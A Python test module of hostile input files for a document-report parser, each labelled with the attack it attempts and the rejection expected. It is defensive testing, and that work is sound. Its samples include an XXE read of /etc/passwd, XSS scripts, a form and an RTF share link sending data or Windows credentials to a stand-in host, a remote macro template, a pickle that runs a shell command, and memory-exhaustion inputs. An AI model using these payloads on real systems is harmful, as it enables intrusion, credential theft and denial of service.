"""Text, pages, RTF and old binary files that are wide, deep, broken, or refer to other places."""

from __future__ import annotations

import struct

from case import FONDS, HEADINGS, OTHERS, READ, Case, changed, raw
from test_content import compound

HEAD = ",".join(HEADINGS) + "\n"
ROWS = (
    "".join(f"{at},{name},10,100,1000\n" for at, name in enumerate((FONDS, *OTHERS), start=1))
    + ",Tổng cộng,90,900,9000\n"
)
CSV = "Kết quả số hóa năm 2021\n" + HEAD + ROWS
LURE = "http://192.0.2.1/x"


def page(inside: str, text: str = CSV) -> bytes:
    """A page whose table is in order, with something more in it."""
    rows = "".join(
        f"<tr>{''.join(f'<td>{cell}</td>' for cell in line.split(','))}</tr>" for line in text.splitlines()[1:]
    )
    return f'<!doctype html><meta charset="utf-8"><p>Kết quả năm 2021</p>{inside}<table>{rows}</table>'.encode()


def rtf(inside: str) -> bytes:
    return f"{{\\rtf1\\ansi B\\'e1o c\\'e1o {inside}}}".encode()


def old_book(*records: tuple[int, bytes]) -> bytes:
    """An .xls whose stream has these records."""
    stream = b"".join(struct.pack("<HH", kind, len(body)) + body for kind, body in records)
    return compound("Workbook", stream=stream)


BEGIN = (0x809, struct.pack("<HH12x", 0x600, 5))
PAGES = [
    Case("html, script", "run a script in the reader", READ, raw("report.html", page("<script>while(1);</script>"))),
    Case("html, picture elsewhere", "fetch a picture", READ, raw("report.html", page(f'<img src="{LURE}">'))),
    Case(
        "html, style elsewhere",
        "fetch a style",
        READ,
        raw("report.html", page(f'<link rel=stylesheet href="{LURE}"><style>@import "{LURE}"</style>')),
    ),
    Case(
        "html, frame",
        "show another page",
        "html-frames",
        raw("report.html", f'<html><frameset><frame src="{LURE}"></frameset></html>'.encode()),
    ),
    Case("html, inner frame", "fetch another page", READ, raw("report.html", page(f'<iframe src="{LURE}"></iframe>'))),
    Case("html, base elsewhere", "turn all links elsewhere", READ, raw("report.html", page(f'<base href="{LURE}">'))),
    Case(
        "html, moves on",
        "go to another page",
        READ,
        raw("report.html", page(f'<meta http-equiv="refresh" content="0;{LURE}">')),
    ),
    Case(
        "html, entities",
        "fill memory by entities",
        READ,
        raw(
            "report.html",
            page("").replace(b"<!doctype html>", b'<!DOCTYPE html [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>&b;'),
        ),
    ),
    Case(
        "html, entity of a file",
        "read /etc/passwd",
        READ,
        raw(
            "report.html",
            page("").replace(b"<!doctype html>", b'<!DOCTYPE html [<!ENTITY a SYSTEM "/etc/passwd">]>&a;'),
        ),
    ),
    Case("html, deep elements", "exhaust the stack", "elements-deep", raw("report.html", page("<div>" * 3000))),
    Case(
        "html, very deep elements",
        "exhaust the stack",
        "elements-deep",
        raw("report.html", page("<b>" * 1_000_000)),
        slow=True,
    ),
    Case(
        "html, tables within tables",
        "exhaust the stack",
        "elements-deep",
        raw("report.html", page("<table><tr><td>" * 500)),
    ),
    Case(
        "html, a span without end",
        "fill memory by one cell",
        READ,
        raw("report.html", page('<table><tr><td rowspan="65534" colspan="1000">1</td></tr></table>')),
    ),
    Case(
        "html, many spans",
        "take very long",
        "table-large",
        raw("report.html", page("<table>" + '<tr><td rowspan="9999" colspan="999">1' * 2000 + "</table>")),
        slow=True,
    ),
    Case(
        "html, 1.000.000 cells",
        "fill memory by cells",
        "elements-many",
        raw("report.html", page("<table>" + ("<tr>" + "<td>1" * 10) * 110_000 + "</table>")),
        slow=True,
    ),
    Case(
        "html, one very long attribute",
        "take very long",
        READ,
        raw("report.html", page(f'<p title="{"a" * 5_000_000}">')),
    ),
    Case(
        "html, styles that nest",
        "take very long by patterns",
        READ,
        raw("report.html", page(f"<style>{'a{' * 100_000}</style>")),
        slow=True,
    ),
    Case(
        "html, selectors without end",
        "take very long by patterns",
        READ,
        raw("report.html", page(f"<style>{'a ' * 500_000}{{}}</style>")),
        slow=True,
    ),
    Case("html, comment left open", "hide the table", "counts-absent", raw("report.html", b"<!-- <table>" * 3)),
    Case(
        "html, conditional comment",
        "show Office something else",
        READ,
        raw("report.html", page("<!--[if gte mso 9]><xml><o:x/></xml><![endif]-->")),
    ),
    Case(
        "html, data address",
        "carry a page in an address",
        READ,
        raw("report.html", page('<object data="data:text/html,<script>alert(1)</script>"></object>')),
    ),
    Case(
        "html, svg",
        "run a script in a picture",
        READ,
        raw("report.html", page('<svg onload="alert(1)"><script>alert(1)</script></svg>')),
    ),
    Case(
        "html, form",
        "send what is typed in",
        READ,
        raw("report.html", page(f'<form action="{LURE}"><input name=a></form>')),
    ),
    Case(
        "mht named .html",
        "carry parts of other kinds",
        "content-format",
        raw("report.html", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>"),
    ),
    Case(
        "XML of Excel named .html",
        "have another reader take it",
        "content-format",
        raw("report.html", b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'),
    ),
]
TEXTS = [
    Case(
        "text, a NUL byte", "end the text early", "content-binary", raw("report.csv", CSV.replace("Y", "\0").encode())
    ),
    Case("text, control bytes", "be a program", "content-binary", raw("report.txt", b"\x01\x02\x03\x04" * 500)),
    Case("text, all zeros", "be no text", "file-empty", raw("report.md", bytes(5000))),
    Case("text, empty", "be nothing", "file-empty", raw("report.csv", b"")),
    Case("text, 11 MB", "fill memory", "file-large", raw("report.md", lambda: b"a b\n" * 2_800_000)),
    Case(
        "text, one line of 9 MB",
        "take very long",
        "paragraph-long",
        raw("report.md", lambda: b"a" * 9_000_000),
        slow=True,
    ),
    Case(
        "text, one line of 9 MB of spaces",
        "take very long by patterns",
        "counts-absent",
        raw("report.md", lambda: b"a" + b" " * 9_000_000 + b"b"),
        slow=True,
    ),
    Case(
        "text, 4.000.000 cells",
        "fill memory by cells",
        "table-large",
        raw("report.md", lambda: (b"1\t" * 9 + b"1\n") * 440_000),
        slow=True,
    ),
    Case("text, pipes alone", "fill memory by cells", "table-large", raw("report.md", lambda: b"|" * 5_000_000)),
    Case(
        "text, stars alone",
        "take very long by patterns",
        "paragraph-long",
        raw("report.md", lambda: b"*a" * 100_000),
        slow=True,
    ),
    Case(
        "text, brackets alone",
        "take very long by patterns",
        "paragraph-long",
        raw("report.md", lambda: b"<" * 200_000 + b"\n" + b"<a" * 100_000),
        slow=True,
    ),
    Case(
        "text, 4.000.000 lines",
        "take very long",
        "lines-many",
        raw("report.txt", lambda: b"a\n" * 4_000_000),
        slow=True,
    ),
    Case(
        "text, letters of marks alone",
        "take very long by patterns",
        READ,
        raw(
            "report.md",
            lambda: (
                "báo cáo\n\n" + (("*a " * 3_000 + "<a " * 3_000 + "năm 1" * 300 + "\n\n") * 50) + CSV.replace(",", "\t")
            ).encode(),
        ),
        slow=True,
    ),
    Case(
        "text, a link that runs",
        "print a link that runs a script",
        READ,
        raw("report.md", ("[x](javascript:alert(1))\n\n" + CSV.replace(",", "\t")).encode()),
    ),
    Case(
        "text, a picture elsewhere",
        "fetch a picture",
        READ,
        raw("report.md", (f"![x]({LURE})\n\n" + CSV.replace(",", "\t")).encode()),
    ),
    Case(
        "text, HTML in Markdown",
        "run a script on the page",
        READ,
        raw("report.md", ("<script>alert(1)</script>\n\n" + CSV.replace(",", "\t")).encode()),
    ),
    Case(
        "text, damaged UTF-8",
        "crash the reader",
        "text-encoding",
        raw("report.csv", CSV.encode() + b"\xff\xfe\xc0\x80"),
    ),
    Case(
        "text, UTF-16 cut in a letter",
        "crash the reader",
        "text-encoding",
        raw("report.csv", CSV.encode("utf-16")[:-1] + b"\xd8"),
    ),
    Case(
        "text, overlong slashes",
        "hide a path from checks",
        "text-encoding",
        raw("report.csv", CSV.encode() + b"\xc0\xae\xc0\xae\xc0\xaf"),
    ),
    Case(
        "csv, 3.000.000 columns",
        "fill memory by cells",
        READ,
        raw("report.csv", lambda: CSV.encode() + b"," * 3_000_000),
        slow=True,
    ),
    Case(
        "csv, 3.000.000 cells",
        "fill memory by cells",
        "table-large",
        raw("report.csv", lambda: CSV.encode() + (b"1," * 9 + b"1\n") * 330_000),
        slow=True,
    ),
    Case(
        "csv, quotation left open",
        "swallow the file",
        "csv-syntax",
        raw("report.csv", CSV.encode() + b'4,"x,1,1,1\n' * 3),
    ),
    Case(
        "csv, one cell of 9 MB",
        "fill memory by a cell",
        "csv-syntax",
        raw("report.csv", lambda: CSV.encode() + b'"' + b"a" * 9_000_000 + b'"\n'),
    ),
    Case(
        "csv, a mark of another kind",
        "be read with a mark of its own",
        "counts-absent",
        raw("report.csv", ('sep="\n' + CSV).encode()),
    ),
    Case(
        "csv, figures that are formulas",
        "be worked out",
        "number-text",
        raw("report.csv", CSV.replace(",1000\n", ",=1000\n").encode()),
    ),
    Case(
        "csv, a figure of 5.000 digits",
        "take very long to read a number",
        "number-large",
        raw("report.csv", CSV.replace(",1000\n", "," + "9" * 5000 + "\n").encode()),
    ),
    Case(
        "csv, a figure in powers",
        "be a number beyond all",
        "number-text",
        raw("report.csv", CSV.replace(",1000\n", ",1e308\n").encode()),
    ),
    Case(
        "csv, figures that are none",
        "be a number that is none",
        "number-text",
        raw("report.csv", CSV.replace(",1000\n", ",NaN\n").encode()),
    ),
    Case(
        "csv, digits of other scripts",
        "show one figure and be another",
        "number-text",
        raw("report.csv", CSV.replace(",1000\n", ",١٠٠٠\n").encode()),
    ),
    Case(
        "gzip named .csv",
        "have an archive unpacked",
        "content-archive",
        raw("report.csv", b"\x1f\x8b\x08" + bytes(500)),
    ),
    Case("an unknown ending", "have any reader take it", "format-unknown", raw("report.exe", b"MZ abc")),
    Case(
        "a pickle named .csv",
        "run code on reading",
        "content-binary",
        raw("report.csv", b"\x80\x04\x95\x00\x01cos\nsystem\n(S'id'\ntR."),
    ),
]
OLD = [
    Case(
        "rtf, link to a share",
        "send the password of Windows",
        "counts-absent",
        raw("report.rtf", rtf(r"{\field{\*\fldinst INCLUDEPICTURE \\\\192.0.2.1\\a.png}}")),
        slow=True,
    ),
    Case(
        "rtf, object",
        "start a program",
        "counts-absent",
        raw("report.rtf", rtf(r"{\object\objautlink\objupdate{\*\objdata 0105000002000000}}")),
        slow=True,
    ),
    Case(
        "rtf, template elsewhere",
        "fetch a template with macros",
        "counts-absent",
        raw("report.rtf", rtf(r"{\*\template http://192.0.2.1/x}")),
        slow=True,
    ),
    Case(
        "rtf, deep groups",
        "exhaust the stack",
        "conversion-failed",
        raw("report.rtf", b"{\\rtf1 " + b"{" * 50_000),
        slow=True,
    ),
    Case(
        "doc, a compound file of nothing",
        "crash the reader",
        "conversion-failed",
        raw("report.doc", compound("WordDocument")),
        slow=True,
    ),
    Case(
        "doc, encrypted",
        "ask for a password",
        "file-encrypted",
        raw("report.doc", compound("WordDocument", stream=struct.pack("<10xH", 0x0100))),
    ),
    Case(
        "doc, e-mail",
        "have another reader take it",
        "content-format",
        raw("report.doc", compound("__properties_version1.0")),
    ),
    Case(
        "doc, encrypted package",
        "ask for a password",
        "file-encrypted",
        raw("report.doc", compound("EncryptedPackage")),
    ),
    Case("doc, cut short", "crash the reader", "archive-broken", raw("report.doc", compound("WordDocument")[:700])),
    Case(
        "doc, sectors in a ring",
        "read without end",
        "archive-broken",
        raw(
            "report.doc",
            compound("WordDocument")[:512] + struct.pack("<128I", *[2] * 128) + compound("WordDocument")[1024:],
        ),
    ),
    Case(
        "xls, encrypted",
        "ask for a password",
        "file-encrypted",
        raw("report.xls", old_book(BEGIN, (0x2F, b"\0" * 54), (0x0A, b""))),
    ),
    Case("xls, no records", "crash the reader", "workbook-broken", raw("report.xls", old_book())),
    Case("xls, records cut off", "crash the reader", "workbook-broken", raw("report.xls", old_book(BEGIN))),
    Case(
        "xls, shared texts without end",
        "fill memory by a number",
        "workbook-broken",
        raw("report.xls", old_book(BEGIN, (0xFC, struct.pack("<II", 2**31, 2**31)), (0x0A, b""))),
    ),
    Case(
        "xls, bytes changed",
        "crash the reader",
        "workbook-broken",
        changed("old Excel", lambda data: data[:600] + bytes(200) + data[800:]),
    ),
    Case("xls, cut short", "crash the reader", "content-unknown", changed("old Excel", lambda data: data[:1500])),
]
CASES = [*PAGES, *TEXTS, *OLD]
